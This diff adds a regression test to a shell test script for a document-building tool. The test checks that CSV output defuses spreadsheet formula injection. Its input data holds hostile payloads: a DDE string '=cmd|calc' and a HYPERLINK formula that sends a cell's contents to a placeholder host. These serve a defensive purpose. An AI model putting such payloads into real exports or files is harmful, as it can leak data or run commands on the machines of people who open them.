@@ -200,3 +200,15 @@ cp "$tmp/prog/.congvan-keys" "$tmp/keys1"
 expect "program key: another program" 0 ${VALGRIND:-} "$tmp/congvan2" build -o "$tmp/prog"
 check "program key: another program, new keys" sh -c "! cmp -s '$tmp/keys1' '$tmp/prog/.congvan-keys'"
 check "program key: another program, the same bytes" grep -qx "15 letters: 0 written, 15 unchanged" "$tmp/out"
+
+# A reply cell a spreadsheet would run as a formula is written with a
+# leading apostrophe, in directory.csv and in register.csv.
+rm -rf "$tmp/inj"; mkdir -p "$tmp/inj"
+cp input/appendix.csv "$tmp/inj/"
+sed 's/^nguoi_ky: .*/nguoi_ky: "=cmd|calc"/' input/dispatch.md >"$tmp/inj/dispatch.md"
+{ cat input/focal_points.csv
+  printf '%s\n' 'Bộ Công an,"=HYPERLINK(""http://x/?""&A1,""Bấm"")",+1 Đơn vị,@Chức danh,+84 24 3826 0471,a@example.org'; } >"$tmp/inj/focal_points.csv"
+expect "formula cells: build" 0 $CV build -q -i "$tmp/inj" -o "$tmp/inj/out" --number 3 --date 2022-04-05
+check "formula cells: =HYPERLINK neutralised" grep -q "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Bấm\"\")\",'+1 Đơn vị,'@Chức danh,'+84 24 3826 0471," "$tmp/inj/out/directory.csv"
+check "formula cells: no bare formula" sh -c "! grep -q ',=\|,+\|,@\|,-' '$tmp/inj/out/directory.csv'"
+check "formula cells: register signer neutralised" grep -q ",'=cmd|calc," "$tmp/inj/out/register.csv"
